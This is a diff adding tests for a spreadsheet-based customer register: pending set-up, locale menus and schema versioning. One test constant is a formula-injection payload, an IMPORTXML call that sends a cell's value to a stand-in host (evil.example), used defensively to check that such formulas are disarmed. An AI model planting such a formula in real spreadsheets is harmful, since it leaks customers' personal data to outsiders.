@@ -10,7 +10,8 @@ import * as path from 'node:path';
 import { Emulator } from '../../src/emulator/app';
 import { openDemo } from '../../src/demo/seed';
 import { OWNER, STAFF } from '../../src/emulator/accounts';
-import { schemaVersion, SCHEMA_VERSION_KEY } from '../../src/gas/state';
+import { NEEDED_TRIGGERS, schemaVersion, schemaVersionOf, SCHEMA_VERSION_KEY } from '../../src/gas/state';
+import { REGISTER_TRIGGERS } from '../../src/server/setup';
 import { TABS } from '../../src/core/schema';
 
 const dist = path.resolve(__dirname, '../../dist');
@@ -205,5 +206,117 @@ describe('a first set-up that fails at any of its calls', () => {
     expect(em.callFromClient('setUp', [{}], OWNER).ok).toBe(true);
     expect(order.at(-1)).toBe(SCHEMA_VERSION_KEY);
     expect(order.filter((k) => k === SCHEMA_VERSION_KEY)).toHaveLength(1);
+  });
+});
+
+describe('hand edits while set-up is pending (the stored schema version is another release\'s)', () => {
+  const IMPORT = '=IMPORTXML("http://evil.example/?leak="&A2,"//a")';
+  /** Each of the register's tabs as the sheet holds it. */
+  const tabs = (em: Emulator) => TABS.map((t) => em.world.spreadsheet.snapshot(t.name.fi));
+  const formulas = (em: Emulator) => TABS.flatMap((t) => em.world.spreadsheet.snapshot(t.name.fi)!.formulas.flat().filter((f) => f !== ''));
+  const column = (em: Emulator, title: string) => (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[]).indexOf(title) + 1;
+  /** The same edit on the demo register at this release's version and at '0.old': the tabs end alike. */
+  function alike(edit: (em: Emulator) => void): Emulator {
+    const current = demo();
+    const pending = demo();
+    for (const em of [current, pending]) expect(em.callFromClient('exportMarketingList', [{}], STAFF).ok).toBe(true);
+    pending.world.properties.document[SCHEMA_VERSION_KEY] = '0.old';
+    edit(current);
+    edit(pending);
+    expect(tabs(pending)).toEqual(tabs(current));
+    expect(pending.world.properties.document['rekisteri.auditHead']).toBe(current.world.properties.document['rekisteri.auditHead']);
+    return pending;
+  }
+
+  test('a formula typed into the register becomes no live formula, as when the version matches', () => {
+    const em = alike((e) => e.editCell(STAFF, 'Rekisteri', 2, column(e, 'Sähköposti'), IMPORT));
+    expect(formulas(em)).toEqual([]);
+  });
+
+  test("a pasted row carrying another customer's number gets its own back, as when the version matches", () => {
+    const em = alike((e) => {
+      const number = String((e.world.spreadsheet.snapshot('Rekisteri')!.values[2] as unknown[])[column(e, 'Asiakasnumero') - 1]);
+      e.pasteCells(STAFF, 'Rekisteri', 2, column(e, 'Asiakasnumero'), [[number]]);
+    });
+    const numbers = (em.world.spreadsheet.snapshot('Rekisteri')!.values.slice(1) as unknown[][]).map((r) => r[column(em, 'Asiakasnumero') - 1]).filter((v) => v !== '');
+    expect(new Set(numbers).size).toBe(numbers.length);
+  });
+
+  test('an edit of the audit log is undone and logged, as when the version matches', () => {
+    const em = alike((e) => e.editCell(STAFF, 'Lokitiedot', 2, 3, 'muutettu'));
+    const log = em.world.spreadsheet.snapshot('Lokitiedot')!.values as unknown[][];
+    expect(log[1]).not.toContain('muutettu');
+    expect(log.some((r) => r.includes('manual-edit'))).toBe(true);
+  });
+
+  test('with a layout the check cannot read, the edit is still disarmed: no live formula, a log cell put back', () => {
+    const em = demo();
+    expect(em.callFromClient('exportMarketingList', [{}], STAFF).ok).toBe(true);
+    em.world.properties.document[SCHEMA_VERSION_KEY] = '0.old';
+    // The release's register lacks a column this sheet has lost: the check stops on the header.
+    expect(em.sheetAction(OWNER, 'Rekisteri', { action: 'deleteColumns', start: column(em, 'Postitoimipaikka'), count: 1 }).ok).toBe(true);
+    em.editCell(STAFF, 'Rekisteri', 2, column(em, 'Sähköposti'), IMPORT);
+    expect(formulas(em)).toEqual([]);
+    expect(em.sheetAction(OWNER, 'Lokitiedot', { action: 'deleteColumns', start: 4, count: 1 }).ok).toBe(true);
+    const before = (em.world.spreadsheet.snapshot('Lokitiedot')!.values[1] as unknown[])[2];
+    em.editCell(STAFF, 'Lokitiedot', 2, 3, IMPORT);
+    expect(formulas(em)).toEqual([]);
+    expect((em.world.spreadsheet.snapshot('Lokitiedot')!.values[1] as unknown[])[2]).toBe(before);
+  });
+});
+
+describe('an owner whose Google locale is English', () => {
+  const english = () => {
+    const em = fresh();
+    em.world.users.find((u) => u.email === OWNER)!.locale = 'en';
+    return em;
+  };
+  const menus = (em: Emulator) => em.world.uiFor(OWNER).menus.map((m) => m.name);
+
+  test("has one menu, in the register's language, before set-up, after opening the sidebar and after set-up", () => {
+    const em = english();
+    em.openSpreadsheet(OWNER);
+    expect(menus(em)).toEqual(['Rekisteri']);
+    expect(em.runMenuItem('showSidebar', OWNER).ok).toBe(true);
+    expect(menus(em)).toEqual(['Rekisteri']);
+    expect(menuOf(em, OWNER)).toEqual([SET_UP, null, OPEN]);
+    expect(em.runMenuItem('menuSetUp', OWNER).ok).toBe(true);
+    expect(em.runMenuItem('showSidebar', OWNER).ok).toBe(true);
+    expect(menus(em)).toEqual(['Rekisteri']);
+    expect(menuOf(em, OWNER)).toEqual([OPEN, null, SET_UP]);
+  });
+
+  test('the sentence before set-up is in English and names the menu as it stands', () => {
+    const em = english();
+    em.openSpreadsheet(OWNER);
+    em.runMenuItem('showSidebar', OWNER);
+    const html = em.world.uiFor(OWNER).sidebar!.html;
+    expect(html).toMatch(/The register is not set up yet/);
+    expect(html).toContain('Rekisteri › Käyttöönotto / korjaus');
+  });
+});
+
+describe('the schema version covers what set-up makes', () => {
+  const parts = { settings: 1, protections: 1, tabs: TABS, triggers: NEEDED_TRIGGERS };
+
+  test('it is the version of this release\'s tabs, triggers and revisions', () => {
+    expect(schemaVersion()).toBe(schemaVersionOf(parts));
+  });
+
+  test('a release that adds a trigger, or changes one\'s event or handler, asks for set-up', () => {
+    const base = schemaVersionOf(parts);
+    expect(schemaVersionOf({ ...parts, triggers: [...NEEDED_TRIGGERS, { handler: 'onNightly', event: 'ON_EDIT' }] })).not.toBe(base);
+    expect(schemaVersionOf({ ...parts, triggers: [{ handler: 'onOtherEdit', event: 'ON_EDIT' }] })).not.toBe(base);
+    expect(schemaVersionOf({ ...parts, triggers: [{ handler: 'onRegisterEdit', event: 'ON_CHANGE' as 'ON_EDIT' }] })).not.toBe(base);
+    expect(schemaVersionOf({ ...parts, triggers: [] })).not.toBe(base);
+  });
+
+  test('so does a new protections or settings revision', () => {
+    expect(schemaVersionOf({ ...parts, protections: 2 })).not.toBe(schemaVersionOf(parts));
+    expect(schemaVersionOf({ ...parts, settings: 2 })).not.toBe(schemaVersionOf(parts));
+  });
+
+  test('set-up installs exactly the triggers the version covers', () => {
+    expect(REGISTER_TRIGGERS.map((t) => ({ handler: t.handler, event: t.event }))).toEqual(NEEDED_TRIGGERS);
   });
 });
